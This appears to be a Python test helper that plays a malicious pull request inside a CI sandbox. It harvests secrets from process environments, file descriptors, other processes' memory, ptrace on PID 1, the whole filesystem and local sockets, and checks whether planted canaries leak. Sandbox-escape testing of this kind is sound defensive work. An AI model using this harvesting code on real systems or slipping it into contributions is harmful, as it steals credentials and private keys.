"""Pull request code that tries to steal the worker's secrets. Runs inside the sandbox.

`python hostile.py ATTACK [ARG...]` prints one JSON object: `data`, everything small it could
read (base64), and `hits`, where a large read (memory, files) contained a marker, with the
bytes around it (base64). The test looks for its canaries in both, in several encodings.
Markers are what a thief would grep for; the canaries all carry one.
"""

import base64
import ctypes
import json
import os
import socket
import sys

MARKERS = [b"CANARY", b"YRANAC", b"Q0FOQVJZ", b"NBTkFSW", b"DQU5BUl", b"43414e415259",
           b"PRIVATE KEY", b"xoxb-", b"/services/"]
CONTEXT = 1500
OUT = "/tmp/attack.json"  # collected by the sandbox: larger than its capped stdout
data: list[bytes] = []
hits: list[dict] = []
notes: list[str] = []


def pids() -> list[str]:
    return sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int)


def read(path: str, limit: int = 1 << 20) -> bytes | None:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError as exc:
        notes.append(f"{path}: {exc.strerror}")
        return None
    chunks, size = [], 0
    try:
        while size < limit:  # /proc files come a page at a time
            chunk = os.read(fd, min(65536, limit - size))
            if not chunk:
                break
            chunks.append(chunk)
            size += len(chunk)
        return b"".join(chunks)
    except BlockingIOError:
        return b"".join(chunks)
    except OSError as exc:
        notes.append(f"{path}: read {exc.strerror}")
        return None
    finally:
        os.close(fd)


def search(where: str, blob: bytes) -> None:
    for marker in MARKERS:
        start = 0
        while len(hits) < 300:
            at = blob.find(marker, start)
            if at < 0:
                break
            hits.append({"where": where, "context": base64.b64encode(
                blob[max(0, at - CONTEXT):at + CONTEXT]).decode()})
            start = at + len(marker)


def environ() -> None:
    for pid in pids():
        data.append(read(f"/proc/{pid}/environ") or b"")


def cmdline() -> None:
    for pid in pids():
        data.append(read(f"/proc/{pid}/cmdline") or b"")
        data.append(read(f"/proc/{pid}/status") or b"")


def descriptors() -> None:
    for pid in pids():
        folder = f"/proc/{pid}/fd"
        try:
            names = os.listdir(folder)
        except OSError as exc:
            notes.append(f"{folder}: {exc.strerror}")
            continue
        for name in names:
            try:
                data.append(os.readlink(f"{folder}/{name}").encode())
            except OSError:
                pass
            data.append(read(f"{folder}/{name}", 65536) or b"")
    for fd in range(3, 1024):  # anything inherited, whatever its number
        try:
            os.fstat(fd)
        except OSError:
            continue
        notes.append(f"open descriptor {fd}")
        try:
            os.set_blocking(fd, False)
            data.append(os.read(fd, 65536))
        except OSError:
            pass


def memory(pid: str) -> int:
    """Every readable mapping of a process, through /proc/<pid>/mem. Returns bytes read."""
    maps = read(f"/proc/{pid}/maps")
    if not maps:
        return 0
    data.append(maps)
    total = 0
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        notes.append(f"/proc/{pid}/mem: {exc.strerror}")
        return 0
    with mem:
        for line in maps.decode().splitlines():
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            if end - start > 256 << 20:
                continue
            try:
                mem.seek(start)
                blob = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            total += len(blob or b"")
            search(f"/proc/{pid}/mem {span}", blob or b"")
    return total


def memories() -> None:
    planted = b"CANARY-planted-in-my-own-memory"  # noqa: F841 - the control: must be found
    for pid in pids():
        notes.append(f"pid {pid}: {memory(pid)} bytes of memory read")


def ptrace() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for request, name in ((16, "PTRACE_ATTACH"), (0x4206, "PTRACE_SEIZE")):
        result = libc.ptrace(request, 1, None, None)
        notes.append(f"{name} 1: {result} errno {ctypes.get_errno()}")
        if result == 0:
            os.waitpid(1, 0) if request == 16 else None
            notes.append(f"attached: {memory('1')} bytes read")


def files(*extra: str) -> None:
    """Every file the sandbox can see (but /proc, /sys, /dev), and paths named by the test."""
    for path in extra:
        blob = read(path, 16 << 20)
        if blob is not None:
            data.append(blob)
    # the operating system's own files are skipped for time; everything else bound in is read
    roots = ["/", "/proc/1/root", "/proc/1/cwd"]
    skip = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/proc/1/root/usr")
    seen: set[tuple[int, int]] = set()
    for root in roots:
        for folder, dirs, names in os.walk(root):
            if folder.rstrip("/") in ("/proc", "/sys", "/dev") or folder.startswith(
                    ("/proc/", "/sys/", "/dev/")) and not folder.startswith("/proc/1/"):
                dirs[:] = []
                continue
            if folder.startswith(("/proc/1/root/proc", "/proc/1/root/sys")) or folder in skip:
                dirs[:] = []
                continue
            for name in names:
                path = os.path.join(folder, name)
                try:
                    info = os.stat(path)
                except OSError:
                    continue
                if (info.st_dev, info.st_ino) in seen or not os.path.isfile(path):
                    continue
                seen.add((info.st_dev, info.st_ino))
                blob = read(path, 4 << 20)
                if blob:
                    search(path, blob)
    notes.append(f"{len(seen)} files read")


def network(*targets: str) -> None:
    for target in targets:
        if target.startswith("/"):
            family, address = socket.AF_UNIX, target
        else:
            host, port = target.rsplit(":", 1)
            family, address = socket.AF_INET, (host, int(port))
        sock = socket.socket(family)
        sock.settimeout(2)
        try:
            sock.connect(address)
            sock.sendall(b"AUTH x\r\nINFO\r\nGET / HTTP/1.0\r\n\r\n")
            data.append(sock.recv(65536))
            notes.append(f"CONNECTED {target}")
        except OSError as exc:
            notes.append(f"{target}: {exc}")
        finally:
            sock.close()


ATTACKS = {"environ": environ, "cmdline": cmdline, "descriptors": descriptors,
           "memory": memories, "ptrace": ptrace, "files": files, "network": network}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
    with open(OUT, "w") as out:
        json.dump({"data": [base64.b64encode(d).decode() for d in data], "hits": hits,
                   "notes": notes}, out)
